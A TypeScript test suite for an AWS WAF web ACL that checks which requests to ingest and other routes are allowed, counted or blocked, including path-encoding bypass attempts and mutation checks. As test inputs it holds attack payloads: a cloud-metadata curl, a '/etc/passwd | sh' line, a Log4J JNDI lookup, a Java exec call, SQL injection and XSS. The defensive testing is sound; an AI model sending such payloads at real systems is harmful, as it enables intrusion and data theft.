import { INGEST_METHOD, ingestRoutes } from '../../../lib/service/routes.ts';
import { evaluate, requestTo, type WafRequest } from '../../support/waf.ts';
import { webAclOf, webAclTemplate } from '../../support/web-acl.ts';

const template = webAclTemplate();
const acl = () => webAclOf(template);
const workspace = '0b9d4a52-6b1f-4f0e-9c53-2f6a3c1d7e88';
const BATCHES = `/v1/${workspace}/requests`;
const BODIES = `/v1/${workspace}/bodies`;
const MEBIBYTE = 1024 * 1024;
/** More than WAF is shown of a body. */
const large = 'x'.repeat(9 * 1024);

const verdict = (request: WafRequest) => evaluate(acl(), request);

/** The web ACL with every value of a key changed. */
const edited = (key: string, change: (value: never) => unknown) =>
  JSON.parse(JSON.stringify(acl()), (name, value) => (name === key ? change(value as never) : value));
const post = (target: string, body: string, more: Partial<WafRequest> = {}) => requestTo('POST', target, body, more);

/** Every body rule that AWS documents for the groups in use, its label, and a body that it finds. */
const bodyRules = [
  ['SizeRestrictions_BODY', 'awswaf:managed:aws:core-rule-set:SizeRestrictions_Body', 'x'.repeat(8193)],
  ['EC2MetaDataSSRF_BODY', 'awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_Body', 'curl 169.254.169.254/latest/meta-data'],
  ['GenericLFI_BODY', 'awswaf:managed:aws:core-rule-set:GenericLFI_Body', 'cat ../../etc/hosts'],
  ['GenericRFI_BODY', 'awswaf:managed:aws:core-rule-set:GenericRFI_Body', 'see http://10.0.0.1/notes'],
  ['CrossSiteScripting_BODY', 'awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body', '<script>alert("hello")</script>'],
  ['JavaDeserializationRCE_BODY', 'awswaf:managed:aws:known-bad-inputs:JavaDeserializationRCE_Body', '(java.lang.Runtime).getRuntime().exec("whoami")'],
  ['Log4JRCE_BODY', 'awswaf:managed:aws:known-bad-inputs:Log4JRCE_Body', '${jndi:ldap://example.com/}'],
  ['ReactJSRCE_BODY', 'awswaf:managed:aws:known-bad-inputs:ReactJSRCE_Body', '{"then":"$1:__proto__:then"}'],
  ['SQLi_BODY', 'awswaf:managed:aws:sql-database:SQLi_Body', 'UNION SELECT name FROM users'],
  ['SQLiExtendedPatterns_BODY', 'awswaf:managed:aws:sql-database:SQLiExtendedPatterns_Body', 'select pg_sleep(5)'],
] as const;

describe('an ingest route', () => {
  test('takes a batch of a mebibyte, and its size is counted', () => {
    const row = JSON.stringify({ request_id: 'r', model: 'm', input_tokens: 1 });
    const batch = `[${Array.from({ length: Math.ceil(MEBIBYTE / row.length) }, () => row).join(',')}]`;
    expect(batch.length).toBeGreaterThan(MEBIBYTE);
    expect(verdict(post(BATCHES, batch))).toMatchObject({ action: 'Allow', counted: ['SizeRestrictions_BODY'] });
  });

  test('takes a prompt with SQL and shell in it', () => {
    const prompt = "Why does `SELECT * FROM t WHERE id = '1' OR '1'='1'; DROP TABLE t` differ from `cat ../../etc/passwd | sh`?";
    expect(verdict(post(BODIES, JSON.stringify({ prompt })))).toMatchObject({ action: 'Allow', counted: ['GenericLFI_BODY', 'SQLi_BODY'] });
  });

  test.each(bodyRules)('only counts what %s finds', (rule, label, body) => {
    for (const path of [BATCHES, BODIES]) {
      expect(verdict(post(path, body))).toEqual({ action: 'Allow', by: 'default', counted: [rule], labels: [label] });
    }
  });

  test.each([
    ['SQL in the query', post(`${BATCHES}?from=1'%20OR%20'1'='1`, '[]'), 'SQLi_QUERYARGUMENTS'],
    ['a script in the query', post(`${BODIES}?from=<script>`, '[]'), 'CrossSiteScripting_QUERYARGUMENTS'],
    ['a lookup in a header', post(BODIES, '[]', { headers: { 'user-agent': '${jndi:ldap://example.com/}' } }), 'Log4JRCE_HEADER'],
    ['SQL in a cookie', post(BODIES, '[]', { headers: { cookie: 'a=UNION SELECT 1' } }), 'SQLi_COOKIE'],
    ['an address of ill repute', post(BATCHES, '[]', { listedBy: ['AWSManagedIPReputationList'] }), 'AWSManagedIPReputationList'],
  ])('still refuses %s', (_, request, rule) => {
    expect(verdict(request)).toMatchObject({ action: 'Block', by: rule });
  });

  test.each(['GET', 'PUT', 'PATCH', 'DELETE', 'post'])('refuses the body that it would take, with the method %s', (method) => {
    expect(INGEST_METHOD).toBe('POST');
    expect(verdict(requestTo(method, BATCHES, large))).toMatchObject({ action: 'Block', by: 'BodiesElsewhere' });
  });

  test('is opened by no header that names another method or path', () => {
    const headers = { 'x-http-method-override': 'POST', 'x-original-url': BATCHES, 'x-forwarded-prefix': BATCHES };
    expect(verdict(requestTo('PUT', '/v1/consent/checkout', large, { headers }))).toMatchObject({ by: 'BodiesElsewhere' });
  });
});

describe('every other route', () => {
  test('refuses a form of 9 KB', () => {
    const form = `reason=${large}`;
    expect(verdict(post('/v1/audit/prompt-views', form))).toMatchObject({ action: 'Block', by: 'BodiesElsewhere', status: 403, counted: ['SizeRestrictions_BODY'] });
  });

  test('takes a small form', () => {
    expect(verdict(post('/v1/audit/prompt-views', 'reason=on+call'))).toEqual({ action: 'Allow', by: 'default', counted: [], labels: [] });
  });

  test.each(bodyRules)('refuses what %s finds', (rule, _, body) => {
    expect(verdict(post('/v1/consent/checkout', body))).toMatchObject({ action: 'Block', by: 'BodiesElsewhere', counted: [rule] });
  });

  test.each([
    ['climbs out of an ingest route', `${BATCHES}/../../admin`],
    ['climbs out of it encoded', `${BATCHES}/%2e%2e/%2e%2e/admin`],
    ['climbs into it', `/v1/workspaces/../${workspace}/requests`],
    ['climbs into it encoded', `/v1/workspaces/%2e%2e/${workspace}/requests`],
    ['goes on after it', `${BATCHES}/replay`],
    ['ends in a slash', `${BATCHES}/`],
    ['begins with two slashes', `/${BATCHES}`],
    ['has two slashes inside', `/v1//${workspace}/requests`],
    ['has an encoded slash', `/v1%2f${workspace}/requests`],
    ['has an encoded slash at the end', `${BATCHES}%2f..%2fadmin`],
    ['has an encoded letter', `/v1/${workspace}/%72equests`],
    ['has an encoded question mark', `/v1/consent/checkout%3f${BATCHES}`],
    ['hides it behind a semicolon', `${BATCHES};/admin`],
    ['has a backslash', `/v1/${workspace}\\requests`],
    ['has a null byte', `${BATCHES}%00`],
    ['ends in an encoded newline', `${BATCHES}%0a`],
    ['is in capitals', `/V1/${workspace}/requests`],
    ['is in capitals at the end', `/v1/${workspace}/REQUESTS`],
    ['has the name of a route for a workspace', '/v1/workspaces/requests'],
    ['has a number for a workspace', '/v1/42/requests'],
    ['has no workspace', '/v1//requests'],
    ['carries it in the query', `/v1/consent/checkout?next=${BATCHES}`],
    ['carries it in the middle', `/v1/consent${BATCHES}`],
    ['names the host', `https://api.example.com${BATCHES}`],
  ])('is one whose path %s', (_, path) => {
    expect(verdict(post(path, large)).action).toBe('Block');
    // Also where no managed rule takes offence at the path itself.
    const lenient = edited('RuleActionOverrides', (overrides: { Name: string }[]) =>
      overrides.some(({ Name }) => Name === 'GenericLFI_BODY') ? [...overrides, { Name: 'GenericLFI_URIPATH', ActionToUse: { Count: {} } }] : overrides,
    );
    expect(evaluate(lenient, post(path, large))).toMatchObject({ action: 'Block', by: 'BodiesElsewhere' });
  });
});

describe('a label', () => {
  test('is added by managed rules alone', () => {
    expect(JSON.stringify(acl())).not.toContain('RuleLabels');
  });

  test('is not taken from the client', () => {
    const headers = Object.fromEntries(bodyRules.map(([rule, label]) => [`x-amzn-waf-${rule.toLowerCase()}`, label]));
    expect(verdict(requestTo('GET', '/v1/projects', '', { headers }))).toMatchObject({ action: 'Allow', labels: [] });
  });
});

describe('the rate limit', () => {
  test('tells an address that sends too much to come back, whatever it sends', () => {
    expect(verdict(post(BATCHES, '[]', { requestsInWindow: 20_000 }))).toMatchObject({ action: 'Allow' });
    expect(verdict(post(BATCHES, '[]', { requestsInWindow: 20_001 }))).toMatchObject({ action: 'Block', by: 'RateLimit', status: 429 });
  });
});

describe('these tests notice', () => {
  type Rules = ReturnType<typeof webAclOf>['Rules'];
  const letOff = (mutant: Record<string, unknown>, request: WafRequest) =>
    expect(evaluate(mutant, request)).toMatchObject({ action: 'Allow', by: 'default' });

  test.each(bodyRules)('that the override of %s is gone', (rule, _, body) => {
    const mutant = edited('RuleActionOverrides', (overrides: { Name: string }[]) => overrides.filter(({ Name }) => Name !== rule));
    expect(evaluate(mutant, post(BODIES, body))).toMatchObject({ action: 'Block', by: rule });
  });

  test.each(bodyRules)('that the label of %s is forgotten', (_, label, body) => {
    letOff(edited('Key', (key: string) => (key === label ? 'awswaf:managed:aws:core-rule-set:Nothing' : key)), post('/v1/consent/checkout', body));
  });

  test('that the rule for other routes is gone, or comes first', () => {
    const ours = ({ Name }: Rules[number]) => Name === 'BodiesElsewhere';
    letOff(edited('Rules', (rules: Rules) => rules.filter((rule) => !ours(rule))), post('/v1/consent/checkout', large));
    letOff(edited('Rules', (rules: Rules) => rules.map((rule) => (ours(rule) ? { ...rule, Priority: -1 } : rule))), post('/v1/consent/checkout', large));
  });

  test.each([
    ['loses its end', '/requests$', '/requests', `${BATCHES}/replay`],
    ['loses its beginning', '^/v1/', '/v1/', `/v1/consent${BATCHES}`],
    ['takes any segment for a workspace', /\[0-9a-fA-F\]\{8\}.*?\{12\}/g, '[^/]+', '/v1/workspaces/requests'],
  ])('that the pattern %s', (_, from, to, path) => {
    letOff(edited('RegexString', (pattern: string) => pattern.replace(from, to)), post(path, large));
  });

  test.each([
    ['LOWERCASE', `/V1/${workspace}/requests`],
    ['URL_DECODE', `/v1%2f${workspace}/requests`],
    ['URL_DECODE', `${BATCHES}%0a`],
    ['NORMALIZE_PATH', `/v1/workspaces/../${workspace}/requests`],
  ])('that a path is let off after %s', (Type, path) => {
    letOff(edited('RegexMatchStatement', (statement: object) => ({ ...statement, TextTransformations: [{ Priority: 0, Type }] })), post(path, large));
  });

  test('that the method no longer counts', () => {
    letOff(edited('SearchString', () => 'PUT'), requestTo('PUT', BATCHES, large));
  });

  test('what the evaluator itself does not understand', () => {
    const refusal = (mutant: Record<string, unknown>) => () => evaluate(mutant, post(BATCHES, large));
    expect(refusal(edited('NotStatement', (statement: object) => ({ ...statement, Extra: {} })))).toThrow('Extra is not known');
    const geo = edited('Statement', (statement: object) => ('AndStatement' in statement ? { GeoMatchStatement: {} } : statement));
    expect(refusal(geo)).toThrow('statement GeoMatchStatement is not known');
    expect(refusal(edited('Name', (name: string) => (name === 'SQLi_BODY' ? 'SQLi_Body' : name)))).toThrow('has no rule SQLi_Body');
    expect(refusal(edited('Type', () => 'CMD_LINE'))).toThrow('transformation CMD_LINE is not known');
  });
});

test('every ingest route is tried above', () => {
  expect(ingestRoutes.map((route) => route.replace(':workspace', workspace))).toEqual([BATCHES, BODIES]);
});
